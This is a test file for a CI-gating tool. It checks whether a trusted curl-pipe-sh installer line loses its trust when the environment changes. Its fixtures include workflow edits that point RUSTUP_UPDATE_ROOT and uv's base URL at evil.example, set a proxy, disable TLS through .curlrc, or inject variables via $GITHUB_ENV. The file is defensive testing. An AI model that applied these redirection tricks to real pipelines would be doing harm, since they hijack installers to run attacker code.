// redteam192: a vouched fetch-and-run line (the start's gate job ran it) runs what the network sends
// and the installer it fetched reads its environment: the change setting a variable it reads
// (curl's CURL_HOME with a committed .curlrc, SSL_CERT_FILE, a proxy, rustup's RUSTUP_UPDATE_ROOT) or
// writing curl's ~/.curlrc runs other code with the same line.
import { gateBatch } from '../helpers/gate-batch.js';
import { cleanupTemp } from '../helpers/repo.js';

afterAll(cleanupTemp);

type Files = Record<string, string>;
const WF = '.github/workflows/ci.yml';
const AUDIT = 'npx gitguard audit';
const CHECKOUT = '      - uses: actions/checkout@v4\n        with:\n          fetch-depth: 0\n';
const run = (s: string): string => `      - run: ${JSON.stringify(s)}\n`;
const RUSTUP = 'curl --proto =https -sSf https://sh.rustup.rs | sh -s -- -y';
/** The gate job: `head` its keys above the steps, `pre` steps before the line. */
const gate = (head: string, pre = ''): Files => ({
  [WF]: `on: push\njobs:\n  gate:\n    runs-on: ubuntu-latest\n${head}    steps:\n${CHECKOUT}${pre}${run(RUSTUP)}${run(AUDIT)}`,
});
const env = (name: string, value: string): string => `    env:\n      ${name}: ${JSON.stringify(value)}\n`;
const START = gate('');

describe('redteam192: the environment of a vouched fetch line', () => {
  const batch = gateBatch(START);
  const cases: Array<[string, Files, boolean]> = [
    ['a step added before it', gate('', run('cargo -V')), true],
    [
      'CURL_HOME at a committed .curlrc',
      { ...gate(env('CURL_HOME', '${{ github.workspace }}')), '.curlrc': 'insecure\n' },
      false,
    ],
    ['SSL_CERT_FILE', gate(env('SSL_CERT_FILE', 'ci/ca.pem')), false],
    ['HTTPS_PROXY', gate(env('HTTPS_PROXY', 'http://203.0.113.5:3128')), false],
    ['RUSTUP_UPDATE_ROOT', gate(env('RUSTUP_UPDATE_ROOT', 'https://evil.example/rustup')), false],
    ['~/.curlrc written', gate('', run("printf 'insecure\\n' > ~/.curlrc")), false],
    [
      'a variable written to $GITHUB_ENV',
      gate('', run('echo RUSTUP_UPDATE_ROOT=https://evil.example >> "$GITHUB_ENV"')),
      false,
    ],
  ];
  for (const [name, after, kept] of cases)
    it(`${kept ? 'kept' : 'lost'}: ${name}`, batch.add(START, after, kept), 600_000);
});

const COLOR = env('CARGO_TERM_COLOR', 'always');
describe('redteam192: a vouched fetch line under the variables it ran with', () => {
  const start = gate(COLOR);
  const batch = gateBatch(start);
  it('kept: the same variables, a step added', batch.add(start, gate(COLOR, run('cargo -V')), true), 600_000);
  it('lost: another value', batch.add(start, gate(env('CARGO_TERM_COLOR', 'never')), false), 600_000);
});

const CI = '.gitlab-ci.yml';
const UV = 'curl -LsSf https://astral.sh/uv/install.sh | sh';
const gl = (vars: string): Files => ({
  [CI]: `gitguard:\n${vars}  script:\n    - ${UV}\n    - ${AUDIT}\n`,
});
const glVar = (name: string, value: string): string => `  variables:\n    ${name}: ${JSON.stringify(value)}\n`;
describe('redteam192: GitLab, the variables of a vouched fetch line', () => {
  const start = gl(glVar('UV_NO_MODIFY_PATH', '1'));
  const batch = gateBatch(start);
  it('kept: the same variables', batch.add(start, { ...start, 'src/a.js': '1;\n' }, true), 600_000);
  it(
    'lost: a variable the installer reads',
    batch.add(
      start,
      gl(glVar('UV_NO_MODIFY_PATH', '1') + '    UV_INSTALLER_GITHUB_BASE_URL: https://evil.example\n'),
      false,
    ),
    600_000,
  );
});
